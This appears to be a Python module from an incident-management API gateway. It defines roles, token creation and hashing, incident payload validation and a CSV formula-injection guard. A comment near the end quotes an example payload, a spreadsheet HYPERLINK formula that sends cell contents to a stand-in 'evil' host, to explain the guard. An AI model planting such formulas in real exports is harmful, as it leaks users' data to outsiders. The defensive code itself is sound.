"""Pure gateway rules: tokens, the API's incident payloads and how they are validated."""

from __future__ import annotations

import hashlib
import re
import secrets
from dataclasses import dataclass
from datetime import datetime
from enum import StrEnum
from typing import Any, Final, Generic, Literal, TypeVar

import msgspec

from imas_contracts import FieldError, alert_payloads
from imas_contracts.incidents import SEVERITIES, IncidentSnapshot, IncidentView, TimelineEntry
from imas_contracts.ingest import SubmitAlert
from imas_runtime.errors import Invalid

T = TypeVar("T")


class Role(StrEnum):
    """What a caller may do. People's roles are ordered, each allowed everything the roles
    before it are; ``integration`` is a machine posting alerts (webhooks and incident creation
    only)."""

    VIEWER = "viewer"
    OPERATOR = "operator"
    RESPONDER = "responder"
    MANAGER = "manager"
    ADMIN = "admin"
    INTEGRATION = "integration"


PEOPLE_ROLES: tuple[str, ...] = tuple(r.value for r in Role if r is not Role.INTEGRATION)
INTEGRATION = Role.INTEGRATION.value
ROLES: tuple[str, ...] = (*PEOPLE_ROLES, INTEGRATION)
# Routes anyone may call (their callers prove themselves another way: signatures, secrets).
PUBLIC: Final = "public"
# The least a route may ask of its callers: a role, or nothing (``PUBLIC``).
Access = Role | Literal["public"]
# Tokens for machines (and admins) get the high rate limit by default, people's the low one.
SERVICE_ROLES = ("admin", INTEGRATION)


@dataclass(frozen=True)
class Principal:
    """Who is calling: an API token (``token_id``) or a dashboard session (``user_id``).

    ``scopes`` (route tags) narrow what a token may reach; empty means every route its role
    allows. ``rate_limit`` requests per ``rate_window`` seconds override the role's default.
    """

    token_id: str
    name: str
    role: str
    user_id: str | None = None
    username: str = ""
    scopes: tuple[str, ...] = ()
    rate_limit: int | None = None
    rate_window: int | None = None

    @property
    def limit_key(self) -> str:
        return f"token:{self.token_id}" if self.token_id else f"user:{self.user_id or self.name}"

    @property
    def actor_id(self) -> str:
        """Who acts, as an identity no one can choose: ``user:<id>`` for a person (signed in,
        or through a token of theirs), else ``token:<id>``. Names are only for display."""
        return f"user:{self.user_id}" if self.user_id else f"token:{self.token_id}"


@dataclass(frozen=True)
class Holder:
    """A user as their credentials stand now: whether their tokens and sessions still work,
    and with which role. ``version`` goes up when they are disabled, or their role or
    password changes."""

    user_id: str
    username: str
    role: str
    active: bool
    version: int

    def principal(self) -> Principal:
        """The user acting in person (signed in to the dashboard)."""
        return in_person(self.user_id, self.username, self.role)


def in_person(user_id: str, username: str, role: str) -> Principal:
    """The principal of a user acting in person (a dashboard session): no token."""
    return Principal(token_id="", name=username, role=role, user_id=user_id, username=username)


def holder_of(row: Any) -> Holder:
    """The ``Holder`` of a users row."""
    return Holder(
        user_id=str(row.id),
        username=row.username,
        role=row.role,
        active=row.active,
        version=row.credentials_version,
    )


def role_allows(role: str, required: Access, *, integration: bool = False) -> bool:
    """Whether ``role`` may call a route declared for ``required`` (and ``integration``)."""
    if required == PUBLIC:
        return True
    if role == INTEGRATION:
        return integration
    if role not in PEOPLE_ROLES or required not in PEOPLE_ROLES:
        return False
    return PEOPLE_ROLES.index(role) >= PEOPLE_ROLES.index(required)


def lower_role(first: str, second: str) -> str | None:
    """The lesser of two people's roles; None when either is not a person's role."""
    if first not in PEOPLE_ROLES or second not in PEOPLE_ROLES:
        return None
    return PEOPLE_ROLES[min(PEOPLE_ROLES.index(first), PEOPLE_ROLES.index(second))]


def new_token() -> str:
    """A fresh API token: 256 bits of randomness behind a recognisable ``imas_`` prefix."""
    return "imas_" + secrets.token_urlsafe(32)


def hash_token(token: str) -> str:
    """Tokens carry 256 bits of randomness, so a plain SHA-256 is a safe, fast lookup key."""
    return hashlib.sha256(token.encode()).hexdigest()


def token_prefix(token: str) -> str:
    """Enough of the token to tell tokens apart in lists and logs, never enough to use it."""
    return token[:12]


_AUTH = re.compile(r"^\s*(Token|Bearer)\s+(\S+)\s*$", re.IGNORECASE)


def token_from_header(value: str | None) -> str | None:
    """The token of ``Authorization: Token <t>`` or ``Authorization: Bearer <t>``."""
    if not value:
        return None
    match = _AUTH.match(value)
    return match.group(2) if match else None


class TokenCreate(msgspec.Struct, kw_only=True, forbid_unknown_fields=True):
    """``POST /api/v1/tokens/``."""

    name: str
    role: str
    expires_at: datetime | None = None
    expires_in_days: int | None = None
    scopes: list[str] = []
    rate_limit: int | None = None
    rate_window: float | None = None


class TokenPatch(msgspec.Struct, kw_only=True, forbid_unknown_fields=True):
    """``PATCH /api/v1/tokens/{id}/``: the fields given change, the secret never does;
    ``null`` clears a limit or the expiry."""

    role: str | msgspec.UnsetType = msgspec.UNSET
    scopes: list[str] | msgspec.UnsetType = msgspec.UNSET
    rate_limit: int | msgspec.UnsetType | None = msgspec.UNSET
    rate_window: float | msgspec.UnsetType | None = msgspec.UNSET
    expires_at: datetime | msgspec.UnsetType | None = msgspec.UNSET


def patched_token(row: Any, patch: TokenPatch, now: datetime) -> TokenCreate:
    """The token ``row`` with ``patch`` applied, checked as a new one would be."""
    fields = ("role", "scopes", "rate_limit", "rate_window", "expires_at")
    values = {f: getattr(row, f) for f in fields}
    values.update({f: getattr(patch, f) for f in fields if getattr(patch, f) is not msgspec.UNSET})
    return check_token_create(TokenCreate(name=row.name, **values), now)


def check_token_create(spec: TokenCreate, now: datetime) -> TokenCreate:
    """Every problem of a token request as an ``Invalid`` naming its field."""
    errors: list[FieldError] = []
    if not spec.name.strip() or len(spec.name) > 200:
        errors.append(FieldError(field="name", message="must be 1 to 200 characters"))
    if spec.role not in ROLES:
        errors.append(FieldError(field="role", message=f"must be one of {', '.join(ROLES)}"))
    if spec.expires_at is not None and (spec.expires_at.tzinfo is None or spec.expires_at <= now):
        errors.append(FieldError(field="expires_at", message="must be a future time with zone"))
    if spec.expires_in_days is not None and not 1 <= spec.expires_in_days <= 3650:
        errors.append(FieldError(field="expires_in_days", message="must be between 1 and 3650"))
    if any(not s.strip() for s in spec.scopes):
        errors.append(FieldError(field="scopes", message="must not contain empty names"))
    if spec.rate_limit is not None and not 1 <= spec.rate_limit <= 1_000_000:
        errors.append(FieldError(field="rate_limit", message="must be between 1 and 1000000"))
    if spec.rate_window is not None and not 0.1 <= spec.rate_window <= 86_400:
        errors.append(FieldError(field="rate_window", message="must be 0.1 to 86400 seconds"))
    if errors:
        raise Invalid("; ".join(f"{e.field}: {e.message}" for e in errors), errors)
    return spec


def token_principal(row: Any, holder: Holder | None) -> Principal | None:
    """Who a token stands for. A token of a user works only while that user (``holder``)
    exists and is active, never with more than their current role, and goes by their
    username; a token of no user goes by its own name. None when it must not work."""
    role, name, username = row.role, row.name, ""
    if row.user_id is not None:
        if holder is None or not holder.active:
            return None
        role = lower_role(row.role, holder.role)
        if role is None:
            return None
        name = username = holder.username
    return Principal(
        token_id=str(row.id),
        name=name,
        role=role,
        user_id=str(row.user_id) if row.user_id else None,
        username=username,
        scopes=tuple(row.scopes or ()),
        rate_limit=row.rate_limit,
        rate_window=row.rate_window,
    )


class TokenJson(msgspec.Struct, kw_only=True):
    """An API token as the API lists it: never its secret or its hash. Times are ISO 8601."""

    id: str
    name: str
    role: str
    prefix: str
    scopes: list[str]
    rate_limit: int | None
    rate_window: float | None
    created_by: str
    user_id: str | None
    # The username of the user the token belongs to (None for tokens of no user).
    username: str | None = None
    created_at: str | None
    expires_at: str | None
    last_used_at: str | None
    revoked_at: str | None


class NewTokenJson(TokenJson, kw_only=True):
    """A token just made: the only answer that ever holds its secret (``token``)."""

    token: str


class VerifiedTokenJson(TokenJson, kw_only=True):
    valid: bool


def token_json(row: Any) -> dict[str, Any]:
    """A token as the API lists it (a ``TokenJson``)."""

    def when(value: datetime | None) -> str | None:
        return value.isoformat() if value else None

    shown = TokenJson(
        id=str(row.id),
        name=row.name,
        role=row.role,
        prefix=row.prefix,
        scopes=list(row.scopes or ()),
        rate_limit=row.rate_limit,
        rate_window=row.rate_window,
        created_by=row.created_by,
        user_id=str(row.user_id) if row.user_id else None,
        username=getattr(row, "username", None),
        created_at=when(row.created_at),
        expires_at=when(row.expires_at),
        last_used_at=when(row.last_used_at),
        revoked_at=when(row.revoked_at),
    )
    return reply_json(shown)


class IncidentCreate(msgspec.Struct, kw_only=True, forbid_unknown_fields=False):
    """``POST /api/v1/incidents/``: the brief's body, plus optional dedup key, tags and scopes."""

    title: str
    service_name: str
    severity: str
    description: str = ""
    detected_at: datetime | None = None
    dedup_key: str = ""
    tags: list[str] = []
    impacted_scopes: list[str] = []


_create_decoder = msgspec.json.Decoder(IncidentCreate)


def parse_incident_create(body: bytes) -> IncidentCreate:
    """Decode and check a create body; every problem is an ``Invalid`` naming its field."""
    try:
        payload = _create_decoder.decode(body)
    except msgspec.ValidationError as exc:
        error = alert_payloads.field_error(exc)
        raise Invalid.field(error.field, error.message) from None
    except msgspec.DecodeError:
        raise Invalid.field("body", "must be a JSON object") from None
    return check_incident_create(payload)


def check_incident_create(payload: IncidentCreate) -> IncidentCreate:
    """Every problem of a decoded create body as an ``Invalid`` naming its field."""
    errors: list[FieldError] = []
    if not payload.title.strip():
        errors.append(FieldError(field="title", message="must not be empty"))
    if len(payload.title) > 500:
        errors.append(FieldError(field="title", message="must be at most 500 characters"))
    if not payload.service_name.strip():
        errors.append(FieldError(field="service_name", message="must not be empty"))
    if payload.severity not in SEVERITIES:
        errors.append(
            FieldError(field="severity", message=f"must be one of {', '.join(SEVERITIES)}")
        )
    if len(payload.dedup_key) > 255:
        errors.append(FieldError(field="dedup_key", message="must be at most 255 characters"))
    if errors:
        raise Invalid("; ".join(f"{e.field}: {e.message}" for e in errors), errors)
    return payload


def submission(payload: IncidentCreate, principal: Principal) -> SubmitAlert:
    """What ingest is asked for a validated create body: open an incident, or attach to the
    open one of the service (and dedup key)."""
    return SubmitAlert(
        title=payload.title,
        description=payload.description,
        service_name=payload.service_name,
        severity=payload.severity,  # type: ignore[arg-type]  # validated by the domain
        dedup_key=payload.dedup_key,
        detected_at=payload.detected_at,
        source="api",
        actor=principal.name,
        actor_id=principal.actor_id,
        tags=payload.tags,
        impacted_scopes=payload.impacted_scopes,
    )


class Page(msgspec.Struct, Generic[T], kw_only=True):
    """A page of a list: how many match in all, links to the next and previous pages (None at
    either end), and this page's results."""

    count: int
    next: str | None
    previous: str | None
    results: list[T]


class Results(msgspec.Struct, Generic[T], kw_only=True):
    """A whole, short list: how many, and which."""

    count: int
    results: list[T]


def whole_page(results: list[Any]) -> dict[str, Any]:
    """A whole list as a ``Page``: no next or previous page."""
    return {"count": len(results), "next": None, "previous": None, "results": results}


class IncidentJson(IncidentSnapshot, frozen=True, kw_only=True):
    """An incident as the public API shows it: its snapshot, plus the service's name and
    whether it is critical (SEV1 or SEV2) and open (not RESOLVED)."""

    service_name: str
    is_critical: bool
    is_open: bool


class IncidentDetailJson(IncidentJson, frozen=True, kw_only=True):
    """An incident with its timeline."""

    timeline: list[TimelineEntry]


def _shown(incident: IncidentSnapshot) -> IncidentJson:
    return IncidentJson(
        **msgspec.structs.asdict(incident),
        service_name=incident.service.name,
        is_critical=incident.severity in ("SEV1_CRITICAL", "SEV2_HIGH"),
        is_open=incident.status != "RESOLVED",
    )


def incident_json(incident: IncidentSnapshot) -> dict[str, object]:
    """An incident as the public API shows it (an ``IncidentJson``)."""
    return reply_json(_shown(incident))


class IncidentCreatedJson(IncidentJson, frozen=True, kw_only=True):
    """An incident as ``POST /api/v1/incidents/`` answers it: ``paging_held_until`` is set
    when it was opened while its service is in maintenance (``paging_held_by`` names the
    window): nobody is paged about it, and its escalation waits, until then."""

    paging_held_until: datetime | None = None
    paging_held_by: str = ""


def created_incident_json(
    incident: IncidentSnapshot, held_until: datetime | None, held_by: str
) -> dict[str, object]:
    """An incident as the create answer shows it (an ``IncidentCreatedJson``)."""
    shown = msgspec.structs.asdict(_shown(incident))
    created = IncidentCreatedJson(**shown, paging_held_until=held_until, paging_held_by=held_by)
    return reply_json(created)


def incident_detail_json(view: IncidentView) -> dict[str, object]:
    """An incident with its timeline (an ``IncidentDetailJson``)."""
    detail = IncidentDetailJson(
        **msgspec.structs.asdict(_shown(view.incident)), timeline=view.timeline
    )
    return reply_json(detail)


def reply_json(message: msgspec.Struct) -> dict[str, Any]:
    """A service's reply as JSON values, as it is (its message type tag included)."""
    data: dict[str, Any] = msgspec.to_builtins(message)
    return data


def message_json(message: msgspec.Struct) -> dict[str, Any]:
    """A service's reply as the API shows it: its fields, without the message's type tag."""
    data: dict[str, Any] = msgspec.to_builtins(message)
    data.pop("type", None)
    return data


# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and CR, may
# shift it into one): ``=HYPERLINK("http://evil/?"&A1, "Runbook")`` in an alert title.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """A CSV cell no spreadsheet evaluates: text starting like a formula gets a leading
    apostrophe (OWASP's advice); numbers, dates and empty cells are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
